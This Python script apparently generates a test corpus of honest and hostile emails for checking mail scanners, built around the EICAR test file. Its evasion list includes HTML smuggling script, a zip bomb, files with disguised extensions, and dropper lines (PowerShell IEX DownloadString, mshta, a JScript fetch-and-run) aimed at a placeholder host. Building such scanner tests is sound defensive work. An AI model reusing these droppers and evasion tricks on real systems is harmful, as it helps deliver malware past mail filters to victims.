"""Messages to be judged, honest and hostile, by Python's own writers: other code than the readers that are tested.

    mail_corpus.py COUNT SEED       COUNT messages, most of them honest, as ordinary mailboxes have them
    mail_corpus.py --evasions       one message for each way to hide a file

Each message is a line of JSON (its class, whether it is hostile, what a reader sees, its length) and its octets.
The same arguments give the same octets.
"""

import base64
import binascii
import bz2
import gzip
import io
import json
import lzma
import quopri
import random
import struct
import sys
import tarfile
import zipfile
import zlib

# The test file of the EICAR is joined only here: no scanner of a developer's machine shall find it in the source.
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*").encode()
WORDS = (
    "the of and to in a is that for it as was with be by on not he his but at are this have from or had an they which "
    "one you were her all she there would their we him been has when who will more no if out so said what up its about "
    "into than them can only other new some could time these two may then do first any my now such like our over man "
    "even most made after also did many before must through years where much your way well down should because long "
    "each just state those people too mr how little good world make very year still see own work men day get here old "
    "invoice meeting budget minutes attached please regards offer delivery contract project schedule holiday report"
).split()
DATE = (2026, 1, 2, 3, 4, 6)


def lines(octets):
    """With CRLF, as IMAP has them."""
    return octets.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def wrapped(octets):
    """Base64 in lines."""
    return base64.encodebytes(octets).replace(b"\n", b"\r\n")


class Maker:
    """Makes honest content of random size."""

    def __init__(self, seed):
        self.random = random.Random(seed)

    def sentence(self):
        words = [self.random.choice(WORDS) for _ in range(self.random.randrange(4, 18))]
        return " ".join(words).capitalize() + "."

    def prose(self, sentences):
        out = []
        for _ in range(sentences):
            out.append(self.sentence())
            if self.random.random() < 0.2:
                out.append("\r\n\r\n")
        return " ".join(out).replace(" \r\n\r\n ", "\r\n\r\n")

    def noise(self, octets):
        return self.random.randbytes(octets)

    def size(self, least, most):
        """Small ones are frequent."""
        return int(least * (most / least) ** (self.random.random() ** 2))

    def header(self, subject, extra=b""):
        number = self.random.randrange(1 << 40)
        return (
            f"Return-Path: <sender{number % 97}@example.org>\r\n"
            f"Received: from mail.example.org (mail.example.org [192.0.2.{number % 250}]) by mx.example.com with ESMTPS\r\n"
            f"\tid {number:x}; Fri, 2 Jan 2026 03:04:05 +0000\r\n"
            f"Date: Fri, 2 Jan 2026 03:04:05 +0000\r\nFrom: Sender <sender{number % 97}@example.org>\r\n"
            f"To: reader@example.com\r\nSubject: {subject}\r\nMessage-ID: <{number:x}@example.org>\r\n"
            "MIME-Version: 1.0\r\n"
        ).encode() + extra

    def multipart(self, parts, subtype="mixed", subject="mail", extra=b"", preamble=b""):
        boundary = f"=_{self.random.randrange(1 << 60):x}".encode()
        body = preamble
        for header, octets in parts:
            body += b"--" + boundary + b"\r\n" + header + b"\r\n\r\n" + octets + b"\r\n"
        declared = b"Content-Type: multipart/" + subtype.encode() + b"; boundary=\"" + boundary + b"\"\r\n"
        return self.header(subject, extra) + declared + b"\r\n" + body + b"--" + boundary + b"--\r\n"

    def text_part(self, sentences=8):
        return b"Content-Type: text/plain; charset=utf-8", self.prose(sentences).encode()

    def attachment(self, name, octets, media="application/octet-stream"):
        header = (
            f"Content-Type: {media}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n"
            "Content-Transfer-Encoding: base64"
        ).encode()
        return header, wrapped(octets)

    def with_attachment(self, name, octets, media="application/octet-stream", subject="with a file"):
        return self.multipart([self.text_part(4), self.attachment(name, octets, media)], subject=subject)


# Containers.


def zipped(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, octets in members:
            info = zipfile.ZipInfo(name, DATE)
            info.compress_type = method
            archive.writestr(info, octets)
    return out.getvalue()


def tarred(members, form=tarfile.PAX_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
        for name, octets in members:
            info = tarfile.TarInfo(name)
            info.size = len(octets)
            archive.addfile(info, io.BytesIO(octets))
    return out.getvalue()


def gzipped(octets):
    return gzip.compress(octets, mtime=0)


def zip_crypto(name, octets, password):
    """A ZIP with PKWARE's old encryption, which unpackers ask a password for."""
    table = [0] * 256
    for number in range(256):
        crc = number
        for _ in range(8):
            crc = crc >> 1 ^ (0xEDB88320 if crc & 1 else 0)
        table[number] = crc
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(octet):
        keys[0] = keys[0] >> 8 ^ table[(keys[0] ^ octet) & 255]
        keys[1] = ((keys[1] + (keys[0] & 255)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = keys[2] >> 8 ^ table[(keys[2] ^ keys[1] >> 24) & 255]

    for octet in password:
        update(octet)
    crc = binascii.crc32(octets)
    sealed = bytearray()
    for octet in bytes(11) + bytes([crc >> 24]) + octets:
        temporary = keys[2] | 2
        sealed.append(octet ^ (temporary * (temporary ^ 1) >> 8 & 255))
        update(octet)
    encoded = name.encode()
    common = struct.pack("<HHHHHIIIHH", 20, 1, 0, 0, 0x5C22, crc, len(sealed), len(octets), len(encoded), 0)
    local = b"PK\3\4" + common + encoded
    central = b"PK\1\2" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + encoded
    begin = len(local) + len(sealed)
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), begin, 0)
    return local + bytes(sealed) + central + end


def word_document(text, members=()):
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    links = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="https://www.example.org/" TargetMode="External"/></Relationships>'
    )
    document = (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        + "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.split("\r\n\r\n"))
        + "</w:body></w:document>"
    )
    return zipped(
        [
            ("[Content_Types].xml", types),
            ("_rels/.rels", rels),
            ("word/document.xml", document),
            ("word/_rels/document.xml.rels", links),
            *members,
        ]
    )


def pdf(text, extra=b""):
    stream = zlib.compress(b"BT /F1 12 Tf 72 720 Td (" + text.encode().replace(b"(", b"").replace(b")", b"") + b") Tj ET")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /MediaBox [0 0 612 792] >>",
        b"<< /Length " + str(len(stream)).encode() + b" /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream",
    ]
    out = b"%PDF-1.7\n"
    places = []
    for number, octets in enumerate(objects, 1):
        places.append(len(out))
        out += str(number).encode() + b" 0 obj\n" + octets + b"\nendobj\n"
    begin = len(out)
    out += b"xref\n0 " + str(len(objects) + 1).encode() + b"\n0000000000 65535 f \n"
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return out + b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n" + str(begin).encode() + b"\n%%EOF\n"


def der(tag, *octets):
    content = b"".join(octets)
    if len(content) < 128:
        return bytes([tag, len(content)]) + content
    length = len(content).to_bytes((len(content).bit_length() + 7) // 8, "big")
    return bytes([tag, 128 | len(length)]) + length + content


def cms(kind, content):
    """signed-data without signers (1.2.840.113549.1.7.2) or compressed-data (1.2.840.113549.1.9.16.1.9)."""
    data = bytes.fromhex("06092a864886f70d010701")
    if kind == "signed":
        inner = der(0x30, der(2, b"\1"), der(0x31), der(0x30, data, der(0xA0, der(4, content))), der(0x31))
        return der(0x30, bytes.fromhex("06092a864886f70d010702"), der(0xA0, inner))
    algorithm = der(0x30, bytes.fromhex("060b2a864886f70d0109100308"))
    inner = der(0x30, der(2, b"\0"), algorithm, der(0x30, data, der(0xA0, der(4, zlib.compress(content)))))
    return der(0x30, bytes.fromhex("060b2a864886f70d0109100109"), der(0xA0, inner))


def tnef(name, octets):
    def attribute(level, number, content):
        return struct.pack("<BII", level, number, len(content)) + content + struct.pack("<H", sum(content) & 0xFFFF)

    return (
        struct.pack("<IH", 0x223E9F78, 1)
        + attribute(1, 0x00089006, struct.pack("<I", 0x10000))
        + attribute(2, 0x00069002, struct.pack("<HIHHHH", 1, 0, 0, 0, 0, 0))
        + attribute(2, 0x00018010, name.encode() + b"\0")
        + attribute(2, 0x0006800F, octets)
    )


def uuencoded(name, octets):
    out = f"begin 644 {name}\r\n".encode()
    for begin in range(0, len(octets), 45):
        out += binascii.b2a_uu(octets[begin:begin + 45]).replace(b"\n", b"\r\n")
    return out + b"`\r\nend\r\n"


def yenc(name, octets):
    body = bytearray()
    for octet in octets:
        octet = octet + 42 & 255
        if octet in (0, 10, 13, 61):
            body += bytes([61, octet + 64 & 255])
        else:
            body.append(octet)
    head = f"=ybegin line=128 size={len(octets)} name={name}\r\n".encode()
    chunks = b"\r\n".join(bytes(body[at:at + 128]) for at in range(0, len(body), 128))
    return head + chunks + f"\r\n=yend size={len(octets)} crc32={binascii.crc32(octets):08x}\r\n".encode()


def program():
    """A program for Windows as small as loaders take one."""
    octets = bytearray(1024)
    octets[:2] = b"MZ"
    octets[60:64] = struct.pack("<I", 128)
    octets[128:152] = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    octets[152:154] = b"\x0b\x02"
    return bytes(octets)


def shortcut(command):
    """A Windows shortcut ([MS-SHLLINK]): header, name, arguments."""
    header = bytearray(76)
    header[:20] = bytes.fromhex("4c0000000114020000000000c000000000000046")
    struct.pack_into("<I", header, 20, 0x80 | 0x20)
    return bytes(header) + struct.pack("<H", len(command)) + command.encode("utf-16-le")


# Honest mail.


def honest(maker):
    """One message: its class, its octets."""
    random_ = maker.random
    kinds = {
        "text": 24, "html": 18, "newsletter": 10, "image": 12, "pdf": 9, "document": 6, "zip": 3, "calendar": 4,
        "forwarded": 5, "bounce": 3, "signed": 3, "quoted code": 2, "log": 1,
    }
    kind = random_.choices(list(kinds), list(kinds.values()))[0]
    subject = maker.sentence()[:60]
    text = maker.prose(maker.size(3, 200))
    if kind == "text":
        body = quopri.encodestring(text.encode()).replace(b"\n", b"\r\n").replace(b"\r\r", b"\r")
        extra = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        return kind, maker.header(subject, extra) + body
    page = f"<html><head><title>{subject}</title></head><body><p>{text}</p></body></html>"
    if kind in ("html", "newsletter"):
        if kind == "newsletter":
            style = "<style>" + "".join(f".c{n}{{color:#{n:06x};margin:{n % 9}px}}" for n in range(200)) + "</style>"
            links = "".join(f'<a href="https://news.example.org/{n}?u={n * 7919}">{maker.sentence()}</a>' for n in range(40))
            pixel = base64.b64encode(b"\x89PNG\r\n\x1a\n" + maker.noise(900)).decode()
            page = page.replace("</head>", style + "</head>").replace("</body>", f'{links}<img src="data:image/png;base64,{pixel}"></body>')
        quoted = quopri.encodestring(page.encode()).replace(b"\n", b"\r\n")
        parts = [
            maker.text_part(6),
            (b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable", quoted),
        ]
        return kind, maker.multipart(parts, "alternative", subject)
    if kind == "image":
        octets = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + maker.noise(maker.size(4_000, 400_000)) + b"\xff\xd9"
        return kind, maker.with_attachment("picture.jpg", octets, "image/jpeg", subject)
    if kind == "pdf":
        return kind, maker.with_attachment("report.pdf", pdf(text), "application/pdf", subject)
    if kind == "document":
        media = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
        return kind, maker.with_attachment("minutes.docx", word_document(text), media, subject)
    if kind == "zip":
        members = [("figures.csv", ";".join(WORDS)), ("notes.txt", text), ("plan.docx", word_document(text))]
        return kind, maker.with_attachment("files.zip", zipped(members), "application/zip", subject)
    if kind == "calendar":
        event = f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:{subject}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        part = (b"Content-Type: text/calendar; method=REQUEST; charset=utf-8", event.encode())
        return kind, maker.multipart([maker.text_part(3), part], "alternative", subject)
    if kind == "forwarded":
        inner = maker.with_attachment("report.pdf", pdf(text), "application/pdf", "inner")
        return kind, maker.multipart([maker.text_part(3), (b"Content-Type: message/rfc822", inner)], subject=subject)
    if kind == "bounce":
        status = b"Reporting-MTA: dns; mx.example.com\r\n\r\nFinal-Recipient: rfc822; nobody@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        parts = [maker.text_part(3), (b"Content-Type: message/delivery-status", status), (b"Content-Type: text/rfc822-headers", maker.header("lost"))]
        return kind, maker.multipart(parts, "report; report-type=delivery-status", subject)
    if kind == "signed":
        signature = maker.attachment("smime.p7s", der(0x30, bytes.fromhex("06092a864886f70d010702"), der(0xA0, der(0x30, der(2, b"\1"), maker.noise(60)))), "application/pkcs7-signature")
        return kind, maker.multipart([maker.text_part(12), signature], "signed; protocol=\"application/pkcs7-signature\"", subject)
    if kind == "quoted code":
        code = "function add(a, b) {\r\n  return a + b;\r\n}\r\n$ powershell Get-ChildItem\r\nbegin with the first line\r\n"
        return kind, maker.header(subject, b"Content-Type: text/plain; charset=utf-8\r\n\r\n") + (code + text).encode()
    return kind, maker.with_attachment("syslog.gz", gzipped(text.encode() * 4), "application/gzip", subject)


# Hostile mail: (class, what a reader sees, message).


def evasions(maker):
    """Each way to hide the test file, or what is forbidden by its kind."""
    eicar_com = lambda octets, name="file.bin", media="application/octet-stream": maker.with_attachment(name, octets, media)
    whole = maker.with_attachment("eicar.com", EICAR)
    html = lambda body: maker.multipart([maker.text_part(3), (b"Content-Type: text/html; charset=utf-8", body)], "alternative")
    attached = lambda header, octets: maker.multipart([maker.text_part(3), (header, octets)])
    quoted = "".join(f"={octet:02X}" for octet in EICAR)
    soft = b"=\r\n".join(quoted[at:at + 60].encode() for at in range(0, len(quoted), 60))
    encoded = base64.b64encode(EICAR)
    dirty = b"\r\n".join(b"!" + encoded[at:at + 11] + b"\x80*" for at in range(0, len(encoded), 11))
    two = (
        maker.header("two types") + b"Content-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + wrapped(EICAR) + b"\r\n--b--\r\n"
    )
    unended = maker.header("no end") + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nx\r\n--b\r\nContent-Transfer-Encoding: base64\r\n\r\n" + wrapped(EICAR)
    empty = maker.header("empty boundary") + b"Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\nContent-Transfer-Encoding: base64\r\n\r\n" + wrapped(EICAR) + b"\r\n----\r\n"
    smuggled = base64.b64encode(program())
    script = b"<html><body><script>var d='" + smuggled + b"';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.exe';a.click();</script></body></html>"
    prefix = zipped([("eicar.com", EICAR)])
    nested = EICAR
    for level in range(6):
        nested = zipped([(f"level{level}", nested)])
    quine_like = bytes(40 << 20)
    out = [
        ("base64", "eicar.com", whole),
        ("quoted-printable", "a text", attached(b"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable", soft)),
        ("7bit", "a text", attached(b"Content-Type: text/plain", EICAR)),
        ("dirty base64", "eicar.com, of readers that skip what is no base64", attached(b"Content-Disposition: attachment; filename=eicar.com\r\nContent-Transfer-Encoding: base64", dirty)),
        ("base64 declared as 7bit", "eicar.com, of readers that guess", attached(b"Content-Disposition: attachment; filename=eicar.com\r\nContent-Transfer-Encoding: 7bit", wrapped(EICAR))),
        ("two Content-Types", "an attachment, of readers that take the last", two),
        ("missing end", "an attachment", unended),
        ("empty boundary", "an attachment, of some readers", empty),
        ("message in a message", "the inner mail's attachment", attached(b"Content-Type: message/rfc822", whole)),
        ("encoded message", "the inner mail's attachment", attached(b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64", wrapped(whole))),
        ("uuencode", "eicar.com below a text", maker.header("uuencode") + b"\r\nSee below.\r\n\r\n" + uuencoded("eicar.com", EICAR)),
        ("yEnc", "eicar.com below a text", maker.header("yenc") + b"\r\nSee below.\r\n\r\n" + yenc("eicar.com", EICAR)),
        ("TNEF", "Outlook shows eicar.com", eicar_com(tnef("eicar.com", EICAR), "winmail.dat", "application/ms-tnef")),
        ("CMS signed-data", "the signed mail's attachment", eicar_com(cms("signed", whole), "smime.p7m", "application/pkcs7-mime; smime-type=signed-data")),
        ("CMS compressed-data", "the compressed mail's attachment", eicar_com(cms("compressed", whole), "smime.p7z", "application/pkcs7-mime; smime-type=compressed-data")),
        ("zip", "eicar.com in an archive", eicar_com(zipped([("eicar.com", EICAR)]), "a.zip", "application/zip")),
        ("zip, stored", "eicar.com in an archive", eicar_com(zipped([("eicar.com", EICAR)], zipfile.ZIP_STORED), "a.zip")),
        ("zip, bzip2", "eicar.com in an archive", eicar_com(zipped([("eicar.com", EICAR)], zipfile.ZIP_BZIP2), "a.zip")),
        ("zip, lzma", "eicar.com in an archive", eicar_com(zipped([("eicar.com", EICAR)], zipfile.ZIP_LZMA), "a.zip")),
        ("zip behind a picture", "a picture, and an archive of whoever renames it", eicar_com(b"\xff\xd8\xff\xe0" + maker.noise(3000) + prefix, "p.jpg", "image/jpeg")),
        ("zip named as text", "a text, and an archive of whoever renames it", eicar_com(prefix, "a.txt", "text/plain")),
        ("zip in zips", "eicar.com in six archives", eicar_com(nested, "a.zip")),
        ("gzip", "eicar.com", eicar_com(gzipped(EICAR), "a.gz")),
        ("bzip2", "eicar.com", eicar_com(bz2.compress(EICAR), "a.bz2")),
        ("xz", "eicar.com", eicar_com(lzma.compress(EICAR), "a.xz")),
        ("tar", "eicar.com in an archive", eicar_com(tarred([("eicar.com", EICAR)]), "a.tar")),
        ("tar.gz", "eicar.com in an archive", eicar_com(gzipped(tarred([("dir/eicar.com", EICAR)])), "a.tgz")),
        ("mail in a zip", "the mail's attachment", eicar_com(zipped([("mail.eml", whole)]), "a.zip")),
        ("encrypted zip", "an archive with a password", eicar_com(zip_crypto("eicar.com", EICAR, b"infected"), "a.zip")),
        ("bomb", "40 MB of nothing in each of 12 members", eicar_com(zipped([(f"{n}", quine_like) for n in range(12)]), "a.zip")),
        ("document", "a picture in a document", eicar_com(word_document("text", [("word/media/image1.bin", EICAR)]), "a.docx")),
        ("data URL", "a page with a link to eicar.com", html(b"<a download=eicar.com href=\"data:application/octet-stream;base64," + encoded + b"\">open</a>")),
        ("HTML smuggling", "a page that saves invoice.exe", html(script)),
        ("HTML smuggling, attached", "a page that saves invoice.exe", eicar_com(script, "invoice.html", "text/html")),
        ("program named as document", "invoice.pdf", eicar_com(program(), "invoice.pdf", "application/pdf")),
        ("program in a zip", "invoice.pdf.exe in an archive", eicar_com(zipped([("invoice.pdf.exe", program())]), "invoice.zip")),
        ("shortcut", "invoice.pdf.lnk", eicar_com(shortcut("/c powershell -w hidden -enc SQBFAFgA; IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"), "invoice.pdf.lnk")),
        ("shortcut in a zip", "invoice.lnk in an archive", eicar_com(zipped([("invoice.lnk", shortcut("mshta http://x.example/a.hta"))]), "a.zip")),
        ("script dropper", "invoice.js", eicar_com(b"var s=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://x.example/a.exe',false);x.send();var t=new ActiveXObject('ADODB.Stream');t.Open();t.Type=1;t.Write(x.responseBody);t.SaveToFile('a.exe',2);s.Run('a.exe');", "invoice.js", "text/javascript")),
        ("message/partial", "a piece of a mail", maker.header("partial") + b"Content-Type: message/partial; id=a; number=1; total=2\r\n\r\n" + whole[:400]),
        ("message/external-body", "a link to a file", attached(b"Content-Type: message/external-body; access-type=URL; URL=\"http://x.example/a.exe\"", b"Content-Type: application/octet-stream\r\n\r\n")),
    ]
    return out


def write(kind, is_hostile, reader, octets):
    head = {"class": kind, "hostile": is_hostile, "reader": reader, "octets": len(octets)}
    sys.stdout.buffer.write(json.dumps(head).encode() + b"\n" + octets)


def main(arguments):
    if arguments == ["--evasions"]:
        for kind, reader, octets in evasions(Maker(1)):
            write(kind, True, reader, octets)
        return
    count, seed = int(arguments[0]), int(arguments[1])
    maker = Maker(seed)
    hostile = evasions(Maker(seed + 1))
    for number in range(count):
        # One of twenty is hostile.
        if number % 20 == 7:
            kind, reader, octets = hostile[number // 20 % len(hostile)]
            write(kind, True, reader, octets)
        else:
            kind, octets = honest(maker)
            write(kind, False, "", octets)


if __name__ == "__main__":
    main(sys.argv[1:])
